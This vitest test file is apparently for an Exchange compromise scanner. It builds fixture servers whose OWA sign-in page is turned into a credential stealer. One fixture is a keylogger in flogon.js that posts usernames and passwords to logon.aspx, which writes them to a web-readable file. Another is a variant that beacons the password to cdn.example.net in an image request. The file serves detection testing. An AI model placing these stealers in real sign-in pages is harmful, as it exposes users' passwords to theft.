// An OWA sign-in page turned into a credential stealer, on a patched Exchange 2019 CU14 server (build 15.2.1544, a
// CU no shipped known-good list covers, so the page hashes cannot tell it) and on 2019 CU8 (covered).
// Sources of the shapes:
// - Positive Technologies Expert Security Center, May 2024 (summaries: https://rewterz.com/?p=32267,
//   https://thenimblenerd.com/article/alert-keylogger-malware-hijacks-microsoft-exchange-servers-african-and-middle-eastern-entities-under-cyber-siege/):
//   after ProxyShell, keylogger code was added to the sign-in handler clkLgn() of the OWA main page, and code added to
//   logon.aspx takes what it captured and writes the credentials to a file that can be fetched from the internet.
//   The report shows its code as screenshots only: the bytes below are rebuilt from that description with the page's
//   real names (clkLgn, gbid, the logonForm fields, the owa\auth\<build>\scripts\premium\flogon.js and
//   themes\resources folders of CSS-Exchange baseline_15.2.792.10.csv), not copied.
// - the logon form and its fields (destination, flags, forcedownlevel, username, password, passwordText, isUtf8,
//   posted to /owa/auth.owa): the rendered OWA sign-in page; Exchange's own clkLgn stores the user name in the
//   logondata cookie and copies passwordText into password before submitting, and never sends the password itself.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { HostResult, ScanReport } from '../src/model.js';
import { nextSteps } from '../src/report/next-steps.js';
import { exhunt } from './support/cli.js';

const EX = 'C/Program Files/Microsoft/Exchange Server/V15';
const FE = `${EX}/FrontEnd/HttpProxy`;
const dir = mkdtempSync(join(tmpdir(), 'exhunt-owa-stealer-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const DIRECTIVE = '<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>';
const PAGE = (marker: string) => `${DIRECTIVE}\r\n<!DOCTYPE html>\r\n<html><head><title>Outlook</title></head><body><!-- ${marker} --></body></html>\r\n`;

/** The sign-in handler as Exchange ships it (shape): user name to a cookie, the shown password copied back. */
const CLKLGN_GENUINE = [
  'function gbid(s) { return document.getElementById(s); }',
  'function clkLgn()',
  '{',
  '    addPerfMarker("Logon.Start");',
  '    var oD = new Date();',
  '    oD.setTime(oD.getTime() + 2 * 7 * 24 * 60 * 60 * 1000);',
  '    var sL = "lgn=" + gbid("username").value;',
  '    document.cookie = "logondata=acc=0&" + sL + "; expires=" + oD.toUTCString();',
  '    if (gbid("showPasswordCheck").checked) { passwordElement = gbid("password"); passwordTextElement = gbid("passwordText"); passwordElement.value = passwordTextElement.value; }',
  '    document.cookie = "PBack=0; path=/";',
  '    document.logonForm.submit();',
  '}',
  '',
].join('\r\n');

/** The same handler with the keylogger: user name and password posted to the server before the real sign-in. */
const CLKLGN_KEYLOGGER = CLKLGN_GENUINE.replace(
  '    document.cookie = "PBack=0; path=/";',
  [
    '    var xhr = new XMLHttpRequest();',
    '    xhr.open("POST", "/owa/auth/logon.aspx?replaceCurrent=1", false);',
    '    xhr.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");',
    '    xhr.send("ObjectType=1&u=" + encodeURIComponent(gbid("username").value) + "&p=" + encodeURIComponent(gbid("password").value));',
    '    document.cookie = "PBack=0; path=/";',
  ].join('\r\n'),
);

/** logon.aspx with server code that appends what the handler posted to a file under a web folder. */
const LOGON_WRITER = [
  DIRECTIVE,
  '<%@ Import Namespace="System.IO" %>',
  '<script runat="server">',
  'protected override void OnLoad(EventArgs e) {',
  '    base.OnLoad(e);',
  '    if (Request.Form["ObjectType"] == "1") {',
  '        File.AppendAllText(Server.MapPath("15.2.1544/themes/resources/lgnbotr.txt"), Request.Form["u"] + ":" + Request.Form["p"] + "\\r\\n");',
  '    }',
  '}',
  '</script>',
  '<!DOCTYPE html>',
  '<html><head><title>Outlook</title></head><body></body></html>',
  '',
].join('\r\n');

function put(root: string, rel: string, text: string | Buffer): void {
  mkdirSync(dirname(join(root, rel)), { recursive: true });
  writeFileSync(join(root, rel), text);
}

const IIS_HEAD = [
  '#Software: Microsoft Internet Information Services 10.0',
  '#Version: 1.0',
  '#Date: 2026-11-20 00:00:00',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
];

/** A server at `build` with its auth pages; `stealer` adds the modified logon.aspx and flogon.js. */
function server(name: string, build: string, stealer: boolean): string {
  const root = join(dir, name);
  for (const page of ['errorFE.aspx', 'expiredpassword.aspx', 'frowny.aspx', 'logoff.aspx', 'OutlookCN.aspx', 'RedirSuiteServiceProxy.aspx', 'signout.aspx']) {
    put(root, `${FE}/owa/auth/${page}`, PAGE(page));
  }
  put(root, `${FE}/owa/auth/logon.aspx`, stealer ? LOGON_WRITER : PAGE('logon.aspx'));
  put(root, `${FE}/owa/auth/${build}/scripts/premium/flogon.js`, stealer ? CLKLGN_KEYLOGGER : CLKLGN_GENUINE);
  put(root, `${FE}/ecp/auth/TimeoutLogout.aspx`, '<%@ Page Language="C#" %>\r\n<html><body>Your session has timed out.</body></html>\r\n');
  const ua = 'Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/131.0.0.0+Safari/537.36';
  const lines = [
    `2026-11-20 08:00:07 10.20.0.11 GET /owa/auth/logon.aspx url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0 443 - 198.51.100.20 ${ua} - 200 0 0 15`,
    `2026-11-20 08:00:08 10.20.0.11 GET /owa/auth/${build}/scripts/premium/flogon.js - 443 - 198.51.100.20 ${ua} - 200 0 0 3`,
    `2026-11-20 08:00:19 10.20.0.11 POST /owa/auth.owa - 443 CONTOSO\\alice 198.51.100.20 ${ua} - 302 0 0 41`,
  ];
  if (stealer) {
    // What the page captured, and the attacker fetching it; a scanner's miss on another .txt is no finding.
    put(root, `${FE}/owa/auth/${build}/themes/resources/lgnbotr.txt`, 'CONTOSO\\alice:Autumn2026!\r\nCONTOSO\\bob:Welcome1\r\n');
    lines.push(
      `2026-11-20 22:41:53 10.20.0.11 GET /owa/auth/${build}/themes/resources/lgnbotr.txt - 443 - 203.0.113.66 ${ua} - 200 0 0 2`,
      `2026-11-20 23:02:11 10.20.0.11 GET /owa/auth/readme.txt - 443 - 198.51.100.99 ${ua} - 404 0 2 1`,
    );
  }
  put(root, 'C/inetpub/logs/LogFiles/W3SVC1/u_ex261120.log', [...IIS_HEAD, ...lines, ''].join('\r\n'));
  return root;
}

function scan(root: string, name: string): HostResult {
  const out = join(dir, `${name}.json`);
  const r = exhunt(['scan', root, '--json', out, '--jobs', '1', '--since', '2026-11-20']);
  expect(r.stderr).toBe('');
  return (JSON.parse(readFileSync(out, 'utf8')) as ScanReport).hosts[0];
}

const rulesOf = (h: HostResult, file: string) =>
  h.findings
    .filter((f) => String(f.evidence.file ?? '').endsWith(file))
    .map((f) => `${f.rule} ${f.severity}`)
    .sort();

let cu14: HostResult;
let cu14Clean: HostResult;
beforeAll(() => {
  cu14 = scan(server('cu14-stealer', '15.2.1544', true), 'cu14-stealer');
  cu14Clean = scan(server('cu14-clean', '15.2.1544', false), 'cu14-clean');
}, 120_000);

describe('an OWA sign-in page turned into a credential stealer', () => {
  it('on 2019 CU14 (no known-good list): compromised, from the page content alone', () => {
    expect(cu14.verdict).toBe('compromised');
    expect(rulesOf(cu14, 'owa/auth/logon.aspx')).toEqual(['WS-34 critical']);
    expect(rulesOf(cu14, 'scripts/premium/flogon.js')).toEqual(['WS-35 critical']);
  });

  it('the captured passwords in the sign-in folder: high, as captured credentials', () => {
    const dump = cu14.findings.filter((f) => String(f.evidence.file ?? '').endsWith('lgnbotr.txt'));
    expect(dump.map((f) => [f.rule, f.severity, f.title])).toEqual([['WS-37', 'high', 'Captured credentials in a file in the OWA or ECP sign-in folder']]);
  });

  it('the attacker fetching the captured passwords from the sign-in folder is seen in the IIS log', () => {
    const fetched = cu14.findings.filter((f) => f.rule === 'WS-46');
    expect(fetched.map((f) => [f.severity, f.client_ip, f.summary])).toEqual([['medium', '203.0.113.66', 'GET /owa/auth/15.2.1544/themes/resources/lgnbotr.txt answered 200']]);
  });

  it("the same server with Exchange's own sign-in handler and page: neither signature fires", () => {
    expect(cu14Clean.findings.filter((f) => ['WS-34', 'WS-35', 'WS-36'].includes(f.rule))).toEqual([]);
    expect(cu14Clean.verdict).toBe('clean');
  });

  it('on 2019 CU8 (a CU the lists cover) the same files are found the same way', () => {
    const h = scan(server('cu8-stealer', '15.2.792', true), 'cu8-stealer');
    expect(h.verdict).toBe('compromised');
    expect(rulesOf(h, 'owa/auth/logon.aspx')).toEqual(['WS-34 critical']);
    expect(rulesOf(h, 'scripts/premium/flogon.js')).toEqual(['WS-35 critical']);
  });

  it('a keylogger no signature knows, in flogon.js: medium on CU8 (its list says modified), named as not checked on CU14', () => {
    // The password taken through a variable and sent as an image request: WS-35 does not know this shape.
    const hidden = CLKLGN_GENUINE.replace('    document.cookie = "PBack=0; path=/";', '    var q = passwordElement.value; (new Image()).src = "https://cdn.example.net/p.gif?d=" + btoa(q);\r\n    document.cookie = "PBack=0; path=/";');
    const rel = (build: string) => `${FE}/owa/auth/${build}/scripts/premium/flogon.js`;
    const cu8 = server('cu8-hidden', '15.2.792', false);
    put(cu8, rel('15.2.792'), hidden);
    const h8 = scan(cu8, 'cu8-hidden');
    expect(rulesOf(h8, 'scripts/premium/flogon.js')).toEqual(['WS-07 medium']);
    expect(h8.verdict).toBe('suspicious');
    const c14 = server('cu14-hidden', '15.2.1544', false);
    put(c14, rel('15.2.1544'), hidden);
    const h14 = scan(c14, 'cu14-hidden');
    expect(rulesOf(h14, 'scripts/premium/flogon.js')).toEqual(['WS-07 low']);
    expect(h14.reasons.find((r) => r.startsWith('not checked:'))).toMatch(/^not checked: 10 Exchange web file\(s\).*premium\\flogon\.js/);
  });

  it("next steps restore Exchange's own files (never delete them) and reset the passwords typed into the page", () => {
    const steps = nextSteps(cu14, '2026-11-20T00:00:00Z');
    const DUMP = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\15.2.1544\\themes\\resources\\lgnbotr.txt';
    // The captured passwords are the attacker's own file: deleted (after imaging), not restored.
    expect(steps.find((s) => s.id === 'remove-shells')).toMatchObject({ title: "Remove the web shells and the attacker's files (after imaging)", items: [DUMP] });
    const restore = steps.find((s) => s.id === 'restore-pages');
    expect(restore?.items).toEqual([
      'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\15.2.1544\\scripts\\premium\\flogon.js',
      'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx',
    ]);
    expect(restore?.detail).toMatch(/do not delete them/);
    const reset = steps.find((s) => s.id === 'reset-credentials');
    expect(reset?.title).toBe('Reset credentials: the OWA sign-in page captured passwords');
    expect(reset?.items).toContain(DUMP);
  });
});
